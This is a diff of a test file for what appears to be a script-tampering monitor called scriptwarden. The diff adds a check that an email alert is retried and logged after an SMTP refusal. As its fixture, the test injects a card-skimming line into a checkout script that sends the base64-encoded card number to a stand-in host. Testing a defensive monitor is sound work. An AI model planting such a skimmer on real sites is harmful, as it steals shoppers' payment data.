@@ -93,7 +93,8 @@ describe('continuous monitoring (serve)', () => {
     assert.match(text, /^# TYPE scriptwarden_scan_failures_total counter$/m);
   });
 
-  it('sends a signed webhook within three intervals of a tampered script, and an email', async () => {
+  it('sends a signed webhook within three intervals of a tampered script, and an email after the server refused it once', async () => {
+    smtp.refuseNext(1);
     const tamperedAt = Date.now();
     s.site.set('shop.test', '/static/app.js', `${APP_JS}\ndocument.getElementById('pay').addEventListener('mouseup', function () { new Image().src = 'http://cdn-stats.test:${s.site.port}/p?d=' + btoa(document.forms[0].cardnumber.value); });`);
     const deadline = tamperedAt + 3 * INTERVAL_MS + 1500;
@@ -113,6 +114,8 @@ describe('continuous monitoring (serve)', () => {
     while (Date.now() - start < 10_000 && smtp.mails.length === 0) await new Promise((r) => setTimeout(r, 100));
     const mail = smtp.mails[0];
     assert.ok(mail, 'the SMTP server received the email');
+    assert.equal(smtp.refused, 1, 'the first attempt was refused with 451 and retried');
+    assert.ok(serve.logs.some((l) => l.event === 'notify.failed' && /email 127\.0\.0\.1:\d+ to secops@example\.com .*SMTP 451/.test(l.message)), 'the failed attempt is logged');
     assert.deepEqual(mail.to, ['secops@example.com']);
     assert.equal(mail.user, 'sw', 'it authenticated with the configured credentials');
     assert.match(mail.raw, /^Subject: \[scriptwarden\] .*script\.changed on checkout/m);
@@ -173,10 +176,10 @@ describe('continuous monitoring (serve)', () => {
     assert.equal(har.log.version, '1.2');
     assert.ok(har.log.entries.some((e) => e.request.url.endsWith('/static/app.js') && e.serverIPAddress === '127.0.0.1'));
     assert.match(files.get('page.html')!.toString('utf8'), /<form/i);
-    const alert = JSON.parse(files.get('alert.json')!.toString('utf8')) as { alert: { id: number }; timeline: { seen: unknown[]; notifications: { status: string; channel: string }[] } };
+    const alert = JSON.parse(files.get('alert.json')!.toString('utf8')) as { alert: { id: number }; timeline: { seen: unknown[]; notifications: { status: string; channel: string; attempts: number }[] } };
     assert.equal(alert.alert.id, alertId);
     assert.ok(alert.timeline.seen.length >= 2, 'every time it was seen');
-    assert.deepEqual(alert.timeline.notifications.map((n) => n.status), ['sent', 'sent']);
+    assert.deepEqual(alert.timeline.notifications.map((n) => `${n.channel.split(' ')[0]} ${n.status} ${n.attempts}`), ['webhook sent 1', 'email sent 2']);
     assert.doesNotMatch(files.get('alert.json')!.toString('utf8'), /mail-pass-93c1/);
   });
 
